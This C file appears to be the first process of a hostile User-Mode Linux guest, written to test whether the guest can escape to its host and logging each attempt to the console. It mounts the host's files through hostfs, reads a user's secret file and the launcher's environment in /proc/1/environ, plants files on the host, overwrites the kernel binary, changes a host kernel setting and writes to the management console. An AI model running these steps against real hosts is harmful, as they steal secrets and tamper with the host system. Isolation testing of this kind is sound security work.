/* The first process of a user-mode guest whose root is hostile: it uses the kernel's own ways to the host.
 *
 * The word after SECRET= on the kernel's command line is a file of the user. The report goes to the console. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void say(const char *attempt, long result) {
    printf("%s: %s\n", attempt, result < 0 ? strerror(errno) : "done");
}

static long reads(const char *path) {
    char bytes[64];
    int file = open(path, O_RDONLY);
    return file < 0 ? -1 : read(file, bytes, sizeof bytes) > 0 ? 0 : -1;
}

static long writes(const char *path, const char *text) {
    int file = open(path, O_WRONLY | O_CREAT, 0600);
    return file < 0 ? -1 : write(file, text, strlen(text)) < 0 ? -1 : 0;
}

static void list(const char *folder) {
    DIR *entries = opendir(folder);
    printf("%s has:", folder);
    for (struct dirent *entry; entries && (entry = readdir(entries));)
        if (entry->d_name[0] != '.') printf(" %s", entry->d_name);
    printf("\n");
}

int main(void) {
    char line[4096] = "", path[8192];
    dup2(open("/dev/console", O_RDWR), 1);
    setvbuf(stdout, 0, _IONBF, 0);
    mkdir("/proc", 0755);
    mkdir("/host", 0755);
    mount("proc", "/proc", "proc", 0, "");
    int file = open("/proc/cmdline", O_RDONLY);
    if (file < 0 || read(file, line, sizeof line - 1) < 0) return 1;
    char *secret = strstr(line, "SECRET=");
    if (!secret) return 1;
    secret = strtok(secret + 7, " \n");
    say("mount the host's files", mount("none", "/host", "hostfs", 0, "/"));
    list("/host");
    list("/host/kernel");
    snprintf(path, sizeof path, "/host%s", secret);
    say("read the secret", reads(path));
    snprintf(path, sizeof path, "/host/proc/1/root%s", secret);
    say("read the secret through its first process", reads(path));
    say("read the environment of the launcher", reads("/host/proc/1/environ"));
    say("read the host's mounts", reads("/host/proc/self/mounts"));
    say("write into the root", writes("/host/planted", "x"));
    say("write into /dev/shm", writes("/host/dev/shm/planted", "x"));
    say("write beside the kernel", writes("/host/kernel/planted", "x"));
    say("replace the kernel", writes("/host/kernel/linux", "x"));
    say("change a setting of the host", writes("/host/proc/sys/vm/overcommit_memory", "1"));
    say("call the management console", writes("/proc/mconsole", "x"));
    printf("END\n");
    for (;;) pause();
}
